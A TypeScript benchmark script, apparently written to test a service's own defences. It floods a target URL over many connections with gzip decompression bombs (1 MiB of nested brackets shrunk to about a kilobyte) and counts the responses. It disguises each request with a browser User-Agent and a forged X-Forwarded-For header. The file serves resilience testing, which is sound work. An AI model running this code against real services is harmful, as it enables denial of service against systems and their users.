/**
 * One sender without the key that wants to keep a service busy:
 * `node dist/bench/attack/attacker.js <url> <seconds> <connections>`.
 * Each connection sends the next bomb as soon as the last is answered: 1 MiB of brackets, gzipped, about a kilobyte on
 * the wire. Prints one line of JSON: how many requests were answered with each status.
 */
import { connect } from 'node:net';
import { gzipSync } from 'node:zlib';

const [url = '', seconds = '5', connections = '8'] = process.argv.slice(2);
const { hostname, port, pathname } = new URL(url);
const counts: Record<string, number> = {};
let over = false;

const bomb = gzipSync('['.repeat(1024 * 1024));
const head = [
  `POST ${pathname} HTTP/1.1`,
  `Host: ${hostname}:${port}`,
  'User-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:144.0) Gecko/20100101 Firefox/144.0',
  'X-Forwarded-For: 203.0.113.9',
  'Content-Encoding: gzip',
  `Content-Length: ${bomb.length}`,
  '',
  '',
].join('\r\n');
const request = Buffer.concat([Buffer.from(head), bomb]);

/** Opens a connection again when the service closes it. */
function open(): Promise<void> {
  return new Promise((resolve) => {
    const socket = connect({ host: hostname, port: Number(port), noDelay: true });
    let received = '';
    const send = () => socket.write(request);
    socket.setEncoding('latin1');
    socket.once('connect', send);
    socket.once('error', () => {});
    socket.once('close', () => resolve(over ? undefined : open()));
    socket.on('data', (text: string) => {
      received += text;
      const end = received.indexOf('\r\n\r\n');
      if (end === -1) return;
      const length = Number(/content-length: (\d+)/i.exec(received)?.[1] ?? 0);
      if (received.length < end + 4 + length) return;
      const status = received.slice(9, 12);
      counts[status] = (counts[status] ?? 0) + 1;
      received = '';
      if (over) socket.end();
      else send();
    });
  });
}

setTimeout(() => {
  over = true;
}, Number(seconds) * 1000);
await Promise.all(Array.from({ length: Number(connections) }, open));
process.stdout.write(`${JSON.stringify(counts)}\n`);
